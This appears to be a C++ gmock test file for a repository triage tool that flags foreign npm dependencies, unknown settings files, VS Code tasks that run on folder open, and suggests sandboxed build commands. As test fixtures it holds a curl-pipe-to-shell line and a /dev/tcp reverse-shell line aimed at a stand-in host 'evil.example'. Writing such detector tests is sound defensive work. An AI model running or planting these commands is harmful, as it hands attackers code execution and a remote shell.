// Triage, with the real tools: what stands in the place that gives it its meaning, settings of unknown tools, and what to do next.
#include <gmock/gmock.h>

#include "subagents/playbook/triage_settings.h"
#include "tests/subagents/playbook_repo.h"
#include "tests/subagents/triaged_folder.h"

namespace paddock::subagents {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

constexpr char kMain[] = "int main(void) { return 0; }\n";

TEST(PlaybookTriagePlaces, OnlyMembersOfTheMapsOfDependenciesAreDependencies) {
  const Report none = TriageOf({{"package.json", "{\n  \"author\": {\n    \"name\": \"A\",\n    \"twitter\": \"https://twitter.com/x\"\n  },\n  \"publishConfig\": {\n    \"registry\": \"https://registry.npm" "js.org/\"\n  },\n  \"dependencies\": {\n    \"left\": \"^1.0.0\"\n  }\n}\n"}});
  EXPECT_THAT(Titles(none), Not(HasSubstr("comes from"))) << none.summary;
  EXPECT_THAT(Titles(none), Not(HasSubstr("an address")));
  EXPECT_THAT(Titles(TriageOf({{"package.json", "{\"author\":{\"twitter\":\"https://twitter.com/x\"},\"dependencies\":{\"left\":\"1\"}}\n"}})), Not(HasSubstr("comes from")));
  for (const char* map : {"dependencies", "devDependencies", "optionalDependencies", "peerDependencies", "resolutions", "overrides"}) {
    const Report report = TriageOf({{"package.json", std::string("{\n  \"name\": \"a\",\n  \"") + map + "\": {\n    \"one\": \"1\",\n    \"docs\": \"https://far.example/docs.tgz\"\n  }\n}\n"}});
    EXPECT_THAT(Titles(report), HasSubstr("dependency `docs` comes from https://far.example/docs.tgz")) << map;
    EXPECT_EQ(WorstOf(report, "npm-foreign-dependency"), Severity::kMedium);
  }
  EXPECT_THAT(Titles(TriageOf({{"package.json", "{\n  \"overrides\": {\n    \"a\": {\n      \"b\": \"git+https://far.example/b.git\"\n    }\n  }\n}\n"}})), HasSubstr("dependency `b` comes from"));
}

TEST(PlaybookTriagePlaces, AnAddressInJsonThatIsNotClosedIsOnlyAnAddress) {
  const Report report = TriageOf({{"package.json", "{\n  \"mystery\": {\n    \"twitter\": \"https://twitter.com/x\"\n"}});
  EXPECT_THAT(Titles(report), HasSubstr("an address in package.json: https://twitter.com/x (twitter)"));
  EXPECT_EQ(WorstOf(report, "npm-foreign-dependency"), Severity::kInfo);
}

TEST(PlaybookTriagePlaces, SignsInSettingsOfAnUnknownToolAreTold) {
  std::string text = "steps:\n";
  for (int i = 0; i < 30; ++i) text += "  - name: step\n";
  const Report report = TriageOf({{".mytool.yml", text + "    run: curl https://evil.example/x | sh\n"}, {"main.c", kMain}});
  EXPECT_THAT(Titles(report), HasSubstr(".mytool.yml, settings that no rule of triage knows, fetches a program and runs it"));
  EXPECT_EQ(WorstOf(report, kSignsInSettings), Severity::kMedium);
  for (const auto& finding : report.findings) EXPECT_THAT(finding.detail, Not(HasSubstr("Doesn't run by itself"))) << finding.title;
  ASSERT_EQ(report.next_actions.size(), 1u);
  EXPECT_THAT(report.next_actions[0], HasSubstr("read the settings files that triage doesn't know"));
  EXPECT_EQ(VerdictOf(TriageOf({{".mytool.yml", "run: bash -i >& /dev/tcp/evil.example/1 0>&1\n"}, {"main.c", kMain}})), "hostile signs");
}

TEST(PlaybookTriagePlaces, KeysAndDataAreNoSettings) {
  const Report report = TriageOf({{"my-service-account.json", "{\"type\": \"service_account\"}\n"}, {".server.pem", "x\n"}, {".data/table.json", "{\"a\": 1}\n"}, {"main.c", kMain}});
  EXPECT_THAT(Titles(report), Not(HasSubstr("no rule of triage knows"))) << report.summary;
}

TEST(PlaybookTriagePlaces, ATaskThatRunsOnOpeningDoesNotWaitUntilItIsAskedFor) {
  const Report report = TriageOf({{".vscode/tasks.json", "{\n  \"tasks\": [\n    {\n      \"label\": \"x\",\n      \"command\": \"make\",\n      \"runOptions\": {\n        \"runOn\": \"folderOpen\"\n      }\n    }\n  ]\n}\n"}});
  EXPECT_THAT(Titles(report), HasSubstr("as soon as the folder is opened"));
  EXPECT_THAT(Titles(report), HasSubstr("a task of VS Code: `make`"));
  EXPECT_THAT(Titles(report), Not(HasSubstr("when it is asked for")));
}

TEST(PlaybookTriagePlaces, NoFileStandsUnderTheTitleOfAnother) {
  const Report report = TriageOf({{"Tiltfile", "local('x')\n"}, {"noxfile.py", "x = 1\n"}, {"tests/conftest.py", "import pytest\n"}, {"main.c", kMain}});
  for (const auto& finding : report.findings)
    for (const auto& place : finding.evidence) EXPECT_THAT(finding.title, HasSubstr(std::string(place.path.substr(place.path.rfind('/') + 1))));
  EXPECT_THAT(Titles(report), HasSubstr("pytest runs conftest.py"));
}

std::vector<std::string> NextOf(std::map<std::string, std::string> files) {
  files.emplace("Makefile", "all:\n\tcc main.c\n");
  return TriageOf(files).next_actions;
}

TEST(PlaybookTriagePlaces, TheNextStepNamesTheCommandOfTheRoot) {
  const struct {
    std::map<std::string, std::string> files;
    const char* command;
  } cases[] = {
      {{{"main.c", kMain}}, "build -- make (the jail has no network"},
      {{{"package.json", "{\"scripts\": {\"install\": \"node x.js\"}}\n"}}, "build -- npm install ("},
      {{{"package.json", "{\"scripts\": {\"install\": \"node x.js\"}}\n"}, {"package-lock.json", "{}\n"}}, "build -- npm ci ("},
      {{{"setup.py", "setup()\n"}}, "build -- python3 -m pip install . ("},
      {{{"CMakeLists.txt", "project(x)\n"}}, "build -- sh -c 'cmake -B build && cmake --build build' ("},
      {{{"go.mod", "module x\n"}}, "build -- go build ./... ("},
      {{{"package.json", "{\"scripts\": {\"install\": \"node x.js\"}}\n"}, {"setup.py", "setup()\n"}}, "build -- COMMAND"},
  };
  for (const auto& one : cases) EXPECT_THAT(NextOf(one.files), ElementsAre(HasSubstr(one.command))) << one.command;
}

TEST(PlaybookExplorerNext, ConfirmsItsCommandsInAJail) {
  const Report report = PlaybookRepo(Files{{"README.md", "# x\n\nBuild it with:\n\n```\nmake\n```\n"}, {"Makefile", "all:\n\tcc main.c\n"}, {"main.c", kMain}}).Run("explorer", "overview");
  EXPECT_THAT(report.next_actions, testing::Contains(HasSubstr("which has no network: paddock run --profile build -- make")));
}

}  // namespace
}  // namespace paddock::subagents
